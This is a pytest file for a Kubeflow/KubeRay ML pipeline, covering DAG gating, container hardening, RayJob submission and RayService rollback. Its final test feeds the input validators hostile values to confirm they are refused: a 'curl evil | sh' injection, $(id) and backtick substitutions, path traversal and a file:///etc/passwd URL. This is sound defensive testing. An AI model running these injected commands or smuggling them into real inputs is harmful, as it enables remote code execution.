"""The Kubeflow pipeline: the committed YAML is what compiling gives, the DAG gates training on
ingestion (a failed expectation and an empty batch alike), every step is sized, hardened and runs in the
control image, and the components drive RayJobs / the RayService correctly (against a fake API).
The whole pipeline, run by kfp.local against an API server that enforces the RBAC, is in
test_kubeflow_pipeline.py."""

from __future__ import annotations

import copy
import datetime
import functools
import re
from types import SimpleNamespace

import pytest
import yaml

from k8s.pipeline import pipeline
from tests.deploy.test_kubeflow_pipeline import FakeServe, health

pytestmark = pytest.mark.timeout(300)


def test_compiled_yaml_is_up_to_date(tmp_path):
    fresh = pipeline.compile_to(tmp_path / "p.yaml").read_text()
    assert pipeline.COMPILED.read_text() == fresh, "stale: run python -m k8s.pipeline.pipeline"


@functools.cache
def _compiled() -> tuple[dict, dict]:
    """(pipeline spec, Kubernetes platform spec): the compiled file has two YAML documents once any task
    has platform config."""
    docs = [d for d in yaml.safe_load_all(pipeline.COMPILED.read_text()) if d]
    spec = next(d for d in docs if "root" in d)
    platform = next((d for d in docs if "platforms" in d), {})
    return spec, platform.get("platforms", {}).get("kubernetes", {})


def _tasks() -> dict[str, dict]:
    """Every task of every DAG (the root and the condition groups), by the stage it runs (or component),
    with its own dependencies and the task of the group that encloses it."""
    spec, _ = _compiled()
    dags = {"root": spec["root"]["dag"]} | {name: c["dag"] for name, c in spec["components"].items() if "dag" in c}
    enclosing = {}  # component of a group -> the task that runs the group
    for dag in dags.values():
        for name, task in dag["tasks"].items():
            if task["componentRef"]["name"] in dags:
                enclosing[task["componentRef"]["name"]] = name
    out = {}
    for dag_name, dag in dags.items():
        for name, task in dag["tasks"].items():
            params = task.get("inputs", {}).get("parameters", {})
            stage = params.get("stage", {}).get("runtimeValue", {}).get("constant")
            out[stage or task["componentRef"]["name"]] = {
                "name": name, "deps": set(task.get("dependentTasks", [])), "group": enclosing.get(dag_name),
                "task": task}
    return out


def _upstream(key: str) -> set[str]:
    """Everything a task waits for: its dependencies, its group's, and theirs (by stage/component)."""
    tasks = _tasks()
    by_name = {v["name"]: k for k, v in tasks.items()}
    seen, todo = set(), [*tasks[key]["deps"], *([tasks[key]["group"]] if tasks[key]["group"] else [])]
    while todo:
        step = by_name[todo.pop()]
        if step not in seen:
            seen.add(step)
            todo += [*tasks[step]["deps"], *([tasks[step]["group"]] if tasks[step]["group"] else [])]
    return seen


def test_training_waits_for_the_gate_and_serving_for_training():
    """Kubeflow runs a task only after its dependentTasks and its enclosing group's (KFP IR: a
    `dsl.If` becomes a DAG component whose task has the condition): training needs ingest (a failed
    Great Expectations batch fails that step and nothing downstream runs) and serving needs training."""
    assert {"ingest", "comp-ingested-events", "features", "samples"} <= \
        _upstream("train") & _upstream("train_retriever")
    assert {"train", "train_retriever", "ingest"} <= _upstream("comp-update-serving")
    assert _upstream("ingest") == set()


def test_an_empty_batch_stops_the_pipeline_after_ingest():
    """dsl.If compiles to a `triggerPolicy.condition` (a CEL expression over the producer's output
    parameter) on the group's task; the KFP driver skips the whole group when it is false (KFP IR
    pipeline_spec.proto TriggerPolicy). Every step after ingestion must be inside the group conditioned
    on the ingest report's count of new valid events being > 0, and ingest + the count outside it."""
    tasks = _tasks()
    group = tasks[next(k for k, v in tasks.items() if v["name"] == tasks["features"]["group"])]
    condition = group["task"]["triggerPolicy"]["condition"]
    count = tasks["comp-ingested-events"]
    assert re.fullmatch(rf"int\(inputs\.parameter_values\['pipelinechannel--{count['name']}-Output'\]\) > 0",
                        condition), condition
    assert count["deps"] == {tasks["ingest"]["name"]} and count["group"] is None and tasks["ingest"]["group"] is None
    inside = {"features", "samples", "train", "train_retriever", "comp-update-serving", "comp-artifact-paths"}
    assert {k for k, v in tasks.items() if v["group"] == tasks["features"]["group"]} == inside
    # The count reads the RayJob the ingest step created, not a name it guesses.
    rayjob = count["task"]["inputs"]["parameters"]["rayjob"]["taskOutputParameter"]
    assert rayjob == {"outputParameterKey": "Output", "producerTask": tasks["ingest"]["name"]}


def test_every_step_is_sized_hardened_and_runs_the_control_image():
    """Each executor gets CPU/memory requests and limits (PipelineTask.set_cpu_request/... compile to
    `container.resources`), the small control image (no step needs torch or Ray: they only call the
    Kubernetes API), and a securityContext in the Kubernetes platform spec, the field kfp-kubernetes'
    set_security_context writes and KFP's driver (backend >= 2.16) applies to the step container
    (kubeflow/pipelines 2.17.0 kubernetes_platform/proto/kubernetes_executor_config.proto
    SecurityContext; backend/src/v2/driver/k8s.go). The compiler adds allowPrivilegeEscalation: false,
    drop ALL and seccomp RuntimeDefault itself (argocompiler/security_context.go), so runAsNonRoot and a
    numeric uid are what makes the step container `restricted`-compatible."""
    spec, platform = _compiled()
    executors = spec["deploymentSpec"]["executors"]
    assert len(executors) == len({t["task"]["componentRef"]["name"] for t in _tasks().values()} - {
        n for n, c in spec["components"].items() if "dag" in c})
    want = {"resourceCpuRequest": "100m", "resourceCpuLimit": "500m", "resourceMemoryRequest": "256Mi",
            "resourceMemoryLimit": "512Mi"}
    for name, executor in executors.items():
        container = executor["container"]
        assert container["image"] == pipeline.CONTROL_IMAGE, name
        assert {k: container["resources"].get(k) for k in want} == want, name
        context = platform["deploymentSpec"]["executors"][name]["securityContext"]
        assert context == {"runAsNonRoot": True, "runAsUser": str(pipeline.CONTROL_UID),
                           "runAsGroup": str(pipeline.CONTROL_UID)}, name
    # No output artifacts: the steps pass parameters only (nothing large goes through the object store).
    assert not [n for n, c in spec["components"].items() if c.get("outputDefinitions", {}).get("artifacts")]
    # Every run does new work: no step is served from KFP's cache.
    assert all(not t["task"].get("cachingOptions", {}).get("enableCache") for t in _tasks().values())


def test_the_pipeline_expects_a_recent_enough_kfp():
    """The compiled file records the SDK; the securityContext field needs KFP backend >= 2.16 (added in
    kubeflow/pipelines #12832), which the README states."""
    spec, _ = _compiled()
    assert spec["sdkVersion"] == "kfp-2.17.0"


class FakeApi:
    """CustomObjectsApi's calls the components make, over a dict of objects. A patch is a merge of `spec`
    with the API server's precondition on metadata.resourceVersion (409 when it is not the object's);
    `conflicts` patches carrying a resourceVersion first meet a write by someone else (KubeRay updating the
    status) and get 409. Each accepted patch gives the next generation, from 7."""

    def __init__(self, objects: dict, statuses: list[dict] | None = None, conflicts: int = 0):
        self.objects, self.statuses, self.created, self.patches = objects, list(statuses or []), [], []
        self.generation, self.conflicts = 6, conflicts

    def get_namespaced_custom_object(self, group, version, namespace, plural, name):
        return copy.deepcopy(self.objects[(plural, name)])

    def get_namespaced_custom_object_status(self, group, version, namespace, plural, name):
        return {"status": self.statuses.pop(0) if len(self.statuses) > 1 else self.statuses[0]}

    def create_namespaced_custom_object(self, group, version, namespace, plural, body):
        self.created.append(body)

    def patch_namespaced_custom_object(self, group, version, namespace, plural, name, body):
        from kubernetes.client import ApiException

        self.patches.append(body)
        meta = self.objects[(plural, name)].setdefault("metadata", {})
        wanted = (body.get("metadata") or {}).get("resourceVersion")
        if wanted is not None and self.conflicts:
            self.conflicts -= 1
            meta["resourceVersion"] = str(int(meta["resourceVersion"]) + 1)
        if wanted is not None and wanted != meta.get("resourceVersion"):
            raise ApiException(status=409, reason="Conflict")
        self.objects[(plural, name)]["spec"].update(body["spec"])
        meta["resourceVersion"] = str(int(meta.get("resourceVersion", 0)) + 1)
        self.generation += 1
        return {"metadata": {"generation": self.generation}}


class FakeCore:
    """CoreV1Api's calls of ingested_events: submitter pods by label, and their logs (one per poll)."""

    def __init__(self, pods: list[tuple[str, str, list[str]]]):
        self.pods, self.selectors = pods, []  # (name, created, logs to return on successive reads)

    def list_namespaced_pod(self, namespace, label_selector):
        self.selectors.append(label_selector)
        return SimpleNamespace(items=[SimpleNamespace(
            metadata=SimpleNamespace(name=name, creation_timestamp=datetime.datetime.fromisoformat(created)),
            spec=SimpleNamespace(containers=[SimpleNamespace(name="ray-job-submitter")]))
            for name, created, _ in self.pods])

    def read_namespaced_pod_log(self, name, namespace, container):
        logs = next(logs for n, _, logs in self.pods if n == name)
        return logs.pop(0) if len(logs) > 1 else logs[0]


@pytest.fixture()
def fake(monkeypatch):
    from kubernetes import client, config

    holder = {}
    monkeypatch.setattr(config, "load_incluster_config", lambda: None)
    monkeypatch.setattr(client, "CustomObjectsApi", lambda: holder["api"])
    monkeypatch.setattr(client, "CoreV1Api", lambda: holder["core"])
    return holder


TEMPLATE = {"metadata": {"name": "streamrec-train", "labels": {"streamrec.io/template": "true", "a": "b"}},
            "spec": {"suspend": True, "entrypoint": "python -m ray_jobs.train --config /p.yaml", "x": 1}}


def test_run_stage_copies_the_template_and_waits(fake):
    fake["api"] = api = FakeApi({("rayjobs", "streamrec-train"): TEMPLATE},
                                [{"jobDeploymentStatus": "Running", "jobStatus": "RUNNING"},
                                 {"jobDeploymentStatus": "Complete", "jobStatus": "SUCCEEDED"}])
    name = pipeline.run_stage.python_func(stage="train", namespace="ns", run_id="0F3A-99c1-ffff", poll_s=0,
                                          artifact_dir="s3://b/a/run/ranker")
    assert name == "streamrec-train-0f3a99c1"
    body = api.created[0]
    assert body["spec"]["suspend"] is False and body["spec"]["x"] == 1
    assert body["spec"]["entrypoint"] == "python -m ray_jobs.train --config /p.yaml --artifact s3://b/a/run/ranker"
    assert body["metadata"]["labels"] == {"a": "b", "streamrec.io/run": "0f3a99c1"}
    assert TEMPLATE["spec"]["suspend"] is True  # the template itself is untouched


def test_failed_expectation_stops_the_pipeline(fake):
    ingest = {"metadata": {"name": "streamrec-ingest"}, "spec": {"suspend": True, "entrypoint": "python -m x"}}
    fake["api"] = FakeApi({("rayjobs", "streamrec-ingest"): ingest},
                          [{"jobDeploymentStatus": "Complete", "jobStatus": "FAILED", "message": "exit 2"}])
    with pytest.raises(RuntimeError, match="Great Expectations"):
        pipeline.run_stage.python_func(stage="ingest", namespace="ns", run_id="r1", poll_s=0)
    fake["api"] = FakeApi({("rayjobs", "streamrec-ingest"): ingest}, [{"jobDeploymentStatus": "Running"}])
    with pytest.raises(TimeoutError):
        pipeline.run_stage.python_func(stage="ingest", namespace="ns", run_id="r1", poll_s=0, timeout_s=0)


def _report_line(valid: int, quarantined: int = 0, capsys=None) -> str:
    """The line ray_jobs.ingest prints for a run: the real print_report over real report objects."""
    from ingestion.job import BatchReport, RunReport
    from ray_jobs.ingest import print_report

    batches = [BatchReport(batch_no=i, files=1, lines=valid + quarantined, valid=valid, quarantined=quarantined,
                           reasons={"malformed JSON": quarantined} if quarantined else {}) for i in range(2 if
                                                                                                      valid else 0)]
    print_report(RunReport(batches=batches))
    return capsys.readouterr().out


def test_ingested_events_reads_the_ingest_report_from_the_submitter_log(fake, capsys):
    """The contract with ray_jobs/ingest.py: its print_report line, as KubeRay's K8sJobMode submitter
    (`ray job logs --follow`, kuberay v1.7.0 common/job.go) relays it into the pod log of the Job named
    after the RayJob; the Job controller labels that Job's pods `job-name=<job>`. A retried submitter
    pod replays the same job's log, so any pod's report will do; a log that has not caught up with the
    finished job yet is read again."""
    ray_log = "2026-01-01 INFO job_manager.py: Submitting job\n" + _report_line(120, 3, capsys)
    fake["core"] = core = FakeCore([("old", "2026-01-01T00:00:00+00:00", ["Tailing logs\nconnection reset\n"]),
                                    ("new", "2026-01-01T00:05:00+00:00", ["Tailing logs until the job exits\n",
                                                                         ray_log])])
    assert pipeline.ingested_events.python_func(namespace="ns", rayjob="streamrec-ingest-ab12", poll_s=0) == 240
    assert core.selectors == ["job-name=streamrec-ingest-ab12"] * 2


def test_an_empty_batch_reports_zero_and_a_missing_report_fails(fake, capsys):
    """`ingest: 0 batches, 0 files, 0 lines -> 0 valid, 0 quarantined` (nothing landed) gives 0; a log
    without the line fails the step rather than guess either way."""
    fake["core"] = FakeCore([("p", "2026-01-01T00:00:00+00:00", [_report_line(0, 0, capsys)])])
    assert pipeline.ingested_events.python_func(namespace="ns", rayjob="j", poll_s=0) == 0
    fake["core"] = FakeCore([("p", "2026-01-01T00:00:00+00:00", ["Traceback (most recent call last):\n"])])
    with pytest.raises(RuntimeError, match="cannot tell"):
        pipeline.ingested_events.python_func(namespace="ns", rayjob="j", poll_s=0, timeout_s=0)


def test_update_serving_points_deployments_at_new_artifacts(fake):
    serve = {"applications": [{"name": "streamrec", "deployments": [
        {"name": "Ranker", "user_config": {"artifact": "old", "micro_batch": 256}}, {"name": "Retriever"},
        {"name": "Ingress"}]}]}
    svc = {"metadata": {"name": "streamrec-serve"}, "spec": {"serveConfigV2": yaml.safe_dump(serve)}}
    ready = {"observedGeneration": 7, "conditions": [{"type": "Ready", "status": "True"}],
             "activeServiceStatus": {"applicationStatuses": {"streamrec": {"status": "RUNNING"}}}}
    fake["api"] = api = FakeApi({("rayservices", "streamrec-serve"): svc},
                                [{"observedGeneration": 6}, ready])
    healthz = FakeServe(lambda n: health("r2", "q2") if api.patches else health("r1", None)).start()
    try:
        pipeline.update_serving.python_func(namespace="ns", rayservice="streamrec-serve", ranker_artifact="s3://r",
                                            retriever_artifact="s3://q", healthz_url=healthz.url, poll_s=0)
    finally:
        healthz.stop()
    deployments = yaml.safe_load(api.patches[0]["spec"]["serveConfigV2"])["applications"][0]["deployments"]
    assert deployments[0]["user_config"] == {"artifact": "s3://r", "micro_batch": 256}
    assert deployments[1]["user_config"] == {"artifact": "s3://q"}
    assert "user_config" not in deployments[2]
    # Read once before the patch, then until `confirm_reads` (3) reads in a row report the new versions.
    assert [r["model_versions"] for r in healthz.reads] == [{"ranker": "r1", "retriever": None}] + [
        {"ranker": "r2", "retriever": "q2"}] * 3


def test_update_serving_asks_the_serve_service_kuberay_creates(fake, monkeypatch):
    """Without `healthz_url` the step asks http://<rayservice>-serve-svc.<namespace>.svc.cluster.local:8000:
    KubeRay names a RayService's serve Service `<rayservice>-serve-svc` (kuberay v1.7.0 ray-operator/
    controllers/ray/utils/util.go GenerateServeServiceName; common/service.go BuildServeService uses the
    RayService's name unless the upgrade strategy is NewClusterWithIncrementalUpgrade or a custom
    serveService is given) and exposes the head container's ports named `serve`/`serve-*` on their own
    numbers. It asks directly, never through an HTTP proxy from the environment. An unreachable /healthz
    is not success: the step times out."""
    import urllib.request

    from tests.deploy.conftest import find, rendered

    for overlay in ("dev", "prod"):
        rayservice = find(rendered(f"k8s/overlays/{overlay}"), "RayService", "streamrec-serve")[0]
        assert rayservice["spec"]["upgradeStrategy"]["type"] == "NewCluster"
        assert "serveService" not in rayservice["spec"]
        ports = [p for c in rayservice["spec"]["rayClusterConfig"]["headGroupSpec"]["template"]["spec"]["containers"]
                 for p in c.get("ports", []) if p.get("name", "").startswith("serve")]
        assert ports == [{"containerPort": 8000, "name": "serve"}]
    asked, handlers = [], []

    class Opener:
        def open(self, url, timeout):
            asked.append(url)
            raise urllib.error.URLError("Name or service not known")

    def build_opener(*given):
        handlers.extend(given)
        return Opener()

    monkeypatch.setattr(urllib.request, "build_opener", build_opener)
    serve = {"applications": [{"name": "streamrec", "deployments": [{"name": "Ranker"}, {"name": "Retriever"}]}]}
    fake["api"] = FakeApi({("rayservices", "streamrec-serve"): {"spec": {"serveConfigV2": yaml.safe_dump(serve)}}},
                          [{"observedGeneration": 8, "conditions": [{"type": "Ready", "status": "True"}]}])
    with pytest.raises(TimeoutError, match="did not report the new models"):
        pipeline.update_serving.python_func(namespace="streamrec", rayservice="streamrec-serve", ranker_artifact="a",
                                            retriever_artifact="b", poll_s=0, timeout_s=0)
    assert set(asked) == {"http://streamrec-serve-serve-svc.streamrec.svc.cluster.local:8000/healthz"}
    assert len(asked) == 4  # three tries before the patch, one after (timeout 0)
    assert [type(h).__name__ for h in handlers] == ["ProxyHandler"] and handlers[0].proxies == {}


def _rayservice(ranker: str = "s3://old/ranker", retriever: str = "s3://old/retriever") -> tuple[str, dict]:
    """(serveConfigV2 as a human wrote it: comments, its own order; the RayService holding it)."""
    original = ("# serving/config.yaml, rendered\napplications:\n- name: streamrec\n  deployments:\n"
                f"  - name: Ranker\n    user_config: {{artifact: '{ranker}', micro_batch: 256}}\n"
                f"  - name: Retriever\n    user_config: {{artifact: '{retriever}'}}\n")
    return original, {"metadata": {"name": "streamrec-serve", "resourceVersion": "100"},
                      "spec": {"serveConfigV2": original, "upgradeStrategy": {"type": "NewCluster"}}}


def _ready(generation: int) -> dict:
    return {"observedGeneration": generation, "conditions": [{"type": "Ready", "status": "True"}],
            "activeServiceStatus": {"applicationStatuses": {"streamrec": {"status": "RUNNING"}}}}


def test_a_failed_load_is_rolled_back_through_a_conflict_and_waits_for_ready(fake, capsys):
    """The rollback is a compare-and-swap: it reads the object, checks it still holds what the step wrote,
    and patches the original string back with that read's resourceVersion. KubeRay writing the status in
    between (409 Conflict) is read again and retried, not given up on. Then the step waits for the
    RayService to observe the rollback's generation and be Ready before it fails."""
    original, svc = _rayservice()
    fake["api"] = api = FakeApi({("rayservices", "streamrec-serve"): svc},
                                [_ready(7), _ready(7), {"observedGeneration": 8}, _ready(8)], conflicts=1)
    problem = "ranker: artifact failed to load (ValueError)"
    healthz = FakeServe(lambda n: health("r1", "q1", *([problem] if api.patches else []))).start()
    try:
        with pytest.raises(RuntimeError, match="deploy failed: ranker: artifact failed to load") as err:
            pipeline.update_serving.python_func(namespace="ns", rayservice="streamrec-serve",
                                                ranker_artifact="s3://new/ranker", retriever_artifact="s3://new/q",
                                                healthz_url=healthz.url, poll_s=0, timeout_s=60)
    finally:
        healthz.stop()
    written = api.patches[0]["spec"]["serveConfigV2"]
    assert "s3://new/ranker" in written and "s3://old/ranker" not in written
    # The step's patch made it 101; KubeRay's write made it 102: the first try is refused, the second lands.
    assert api.patches[1:] == [{"metadata": {"resourceVersion": "101"}, "spec": {"serveConfigV2": original}},
                               {"metadata": {"resourceVersion": "102"}, "spec": {"serveConfigV2": original}}]
    assert svc["spec"]["serveConfigV2"] == original  # byte for byte: comments and order too
    assert api.statuses == [_ready(8)]  # it polled past the not-yet-observed generation to Ready
    message = str(err.value)
    assert "The old model is still serving" in message
    assert "was restored to the artifacts served before" in message and "Ready again" in message
    assert "409 Conflict" in capsys.readouterr().out


def test_a_rayservice_that_never_gets_ready_is_rolled_back_with_a_bounded_wait(fake):
    """Timing out on the RayService itself (it never reports the new generation Ready) also rolls back; the
    wait for Ready after the rollback is bounded by `revert_timeout_s`, and the message says the config was
    restored but the RayService was not seen Ready."""
    original, svc = _rayservice()
    fake["api"] = api = FakeApi({("rayservices", "streamrec-serve"): svc}, [{"observedGeneration": 6}])
    healthz = FakeServe(lambda n: health("r1", "q1")).start()
    try:
        with pytest.raises(TimeoutError) as err:
            pipeline.update_serving.python_func(namespace="ns", rayservice="streamrec-serve",
                                                ranker_artifact="s3://new/ranker", retriever_artifact="s3://new/q",
                                                healthz_url=healthz.url, poll_s=0, timeout_s=0, revert_timeout_s=0)
    finally:
        healthz.stop()
    assert api.patches[1] == {"metadata": {"resourceVersion": "101"}, "spec": {"serveConfigV2": original}}
    assert svc["spec"]["serveConfigV2"] == original
    message = str(err.value)
    assert "not ready after 0s" in message and "The old model keeps serving" in message
    assert "was restored to the artifacts served before" in message and "not seen Ready within 0s" in message


def test_a_rollback_the_api_server_refuses_is_reported_not_raised(fake):
    """A rollback that cannot be sent (here 403: someone narrowed the Role) does not hide the failure the
    step is about: it still fails with the load error, and says serveConfigV2 could not be restored and
    which artifacts to patch back by hand."""
    from kubernetes.client import ApiException

    _, svc = _rayservice()
    fake["api"] = api = FakeApi({("rayservices", "streamrec-serve"): svc}, [_ready(7)])
    step_patch = api.patch_namespaced_custom_object

    def patch(group, version, namespace, plural, name, body):
        if api.patches:
            raise ApiException(status=403, reason="Forbidden")
        return step_patch(group, version, namespace, plural, name, body)

    api.patch_namespaced_custom_object = patch
    problem = "retriever: artifact failed to load (OSError)"
    healthz = FakeServe(lambda n: health("r1", "q1", *([problem] if api.patches else []))).start()
    try:
        with pytest.raises(RuntimeError, match=re.escape(f"deploy failed: {problem}")) as err:
            pipeline.update_serving.python_func(namespace="ns", rayservice="streamrec-serve",
                                                ranker_artifact="s3://new/ranker", retriever_artifact="s3://new/q",
                                                healthz_url=healthz.url, poll_s=0, timeout_s=60)
    finally:
        healthz.stop()
    assert "could NOT be restored (ApiException" in str(err.value)
    assert "'retriever': 's3://old/retriever'" in str(err.value)


def test_parameters_are_checked_and_the_entrypoint_quoted(fake):
    """The review's finding: run_stage appended `--artifact <artifact_dir>` to the RayJob's entrypoint, which
    the submitter runs through a shell, unquoted; a run argument could add commands. Every component now refuses
    values outside their form before any API call (names, locations, URLs, numbers), and the entrypoint carries
    the artifact as one quoted word."""
    import shlex

    fake["api"] = api = FakeApi({("rayjobs", "streamrec-train"): TEMPLATE},
                                [{"jobDeploymentStatus": "Complete", "jobStatus": "SUCCEEDED"}])
    pipeline.run_stage.python_func(stage="train", namespace="ns", run_id="r1", poll_s=0,
                                   artifact_dir="s3://bucket/artifacts/run-1/ranker")
    words = shlex.split(api.created[0]["spec"]["entrypoint"])
    assert words[-2:] == ["--artifact", "s3://bucket/artifacts/run-1/ranker"]
    api.created.clear()
    bad_run_stage = [
        {"artifact_dir": "s3://b/x; curl evil | sh"}, {"artifact_dir": "s3://b/$(id)"}, {"artifact_dir": "--help"},
        {"artifact_dir": "s3://b/../other"}, {"stage": "train; rm"}, {"stage": "deploy"},
        {"namespace": "ns --all"}, {"namespace": "NS"}, {"timeout_s": -1},
    ]
    for bad in bad_run_stage:
        args = {"stage": "train", "namespace": "ns", "run_id": "r1", "poll_s": 0, **bad}
        with pytest.raises(ValueError, match=next(iter(bad))):
            pipeline.run_stage.python_func(**args)
    assert api.created == []  # refused before anything was created
    for bad in ({"artifact_root": "s3://b/a`id`"}, {"artifact_root": "/x/../y"}, {"run_id": "a/b"}):
        with pytest.raises(ValueError, match=next(iter(bad))):
            pipeline.artifact_paths.python_func(**{"artifact_root": "s3://b/a", "run_id": "r1", **bad})
    for bad in ({"namespace": "a,b"}, {"rayjob": "x,job-name!=y"}):
        with pytest.raises(ValueError, match=next(iter(bad))):
            pipeline.ingested_events.python_func(**{"namespace": "ns", "rayjob": "streamrec-ingest-r1", **bad})
    serving = {"namespace": "ns", "rayservice": "streamrec-serve", "ranker_artifact": "s3://b/r",
               "retriever_artifact": "s3://b/q"}
    for bad in ({"rayservice": "Serve"}, {"ranker_artifact": "s3://b/r?x=1"}, {"retriever_artifact": "a b"},
                {"healthz_url": "file:///etc/passwd"}, {"healthz_url": "http://h/x?q=1"}, {"confirm_reads": 0}):
        with pytest.raises(ValueError, match=next(iter(bad))):
            pipeline.update_serving.python_func(**{**serving, **bad})
    assert api.patches == []
